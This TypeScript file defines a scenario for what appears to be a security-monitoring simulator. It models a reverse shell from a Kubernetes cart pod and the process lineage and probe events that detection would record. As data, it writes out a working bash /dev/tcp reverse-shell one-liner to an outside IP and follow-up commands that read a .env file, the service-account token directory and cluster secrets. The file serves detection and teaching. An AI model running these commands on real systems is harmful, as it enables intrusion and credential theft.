import { tcpConnect } from '../events/probe_bodies';
import type { Scenario } from '../scenario';

export const reverseShell: Scenario = {
  id: 'reverse_shell',
  title: 'A reverse shell over /dev/tcp from the cart service',
  reads:
    'Node.js of shop/cart ran a shell command. bash forked, and the fork itself opened the connection to ' +
    '185.220.101.7:4444 (bash opens /dev/tcp before it calls exec), so the connect is on an exec_id that ' +
    'never had an exec. Then the same PID called exec: `bash -i` has ANOTHER exec_id with the same parent. ' +
    'That is one process, forked and then `bash -i`, which made the connection: so it is told from either id. ' +
    'What was typed follows below it (readline uprobe). It ended with SIGHUP.',
  lineage: `
sh -c "bash -c 'bash -i >& /dev/tcp/185.220.101.7/4444 0>&1; true'" · exit 0
└─ bash -c "bash -i >& /dev/tcp/185.220.101.7/4444 0>&1; true" · exit 0
   ├─ bash -c "bash -i >& /dev/tcp/185.220.101.7/4444 0>&1; true" · forked · tcp_connect POST
   └─ bash -i · readline POST · SIGHUP
      ├─ id · exit 0
      ├─ cat /srv/cart/.env · exit 0
      ├─ ls -la /var/run/secrets/kubernetes.io/serviceaccount · exit 0
      └─ curl -sk https://10.96.0.1/api/v1/namespaces/shop/secrets · exit 22
`,
  tell({ world, scene }) {
    const pod = world.pod('prod-eu', 'shop', 'cart', 0);
    const stage = scene(37);
    const command = 'bash -i >& /dev/tcp/185.220.101.7/4444 0>&1; true';
    const { init: node } = stage.container(pod);
    const sh = stage.spawn(node, ['/bin/sh', '-c', `bash -c '${command}'`]);
    const bash = stage.spawn(sh, ['/usr/bin/bash', '-c', command]);
    const fork = stage.fork(bash);
    stage.wait(12);
    stage.probe(
      'process_kprobe',
      fork,
      tcpConnect('network-connect', {
        from: '10.244.3.9',
        to: '185.220.101.7',
        fromPort: 39_440,
        port: 4_444,
      }),
    );
    stage.wait(38);
    const shell = stage.execFork(fork, ['/usr/bin/bash', '-i']);
    const typed: [string, readonly string[], number][] = [
      ['id', ['/usr/bin/id'], 0],
      ['cat .env', ['/usr/bin/cat', '/srv/cart/.env'], 0],
      [
        'ls -la /var/run/secrets/kubernetes.io/serviceaccount',
        ['/usr/bin/ls', '-la', '/var/run/secrets/kubernetes.io/serviceaccount'],
        0,
      ],
      [
        'curl -sk https://10.96.0.1/api/v1/namespaces/shop/secrets',
        ['/usr/bin/curl', '-sk', 'https://10.96.0.1/api/v1/namespaces/shop/secrets'],
        22,
      ],
    ];
    for (const [line, argv, status] of typed) {
      stage.wait(7_300);
      stage.probe('process_uprobe', shell, {
        path: '/usr/bin/bash',
        symbol: 'readline',
        policy_name: 'bash-readline',
        args: [{ string_arg: line }],
        action: 'KPROBE_ACTION_POST',
      });
      stage.run(shell, argv, { status, takes: 40 });
    }
    stage.wait(41_000);
    stage.exit(shell, { signal: 'SIGHUP' });
    stage.exit(bash);
    stage.exit(sh);
    return { top: sh, service: node, forker: bash, fork, shell };
  },
};
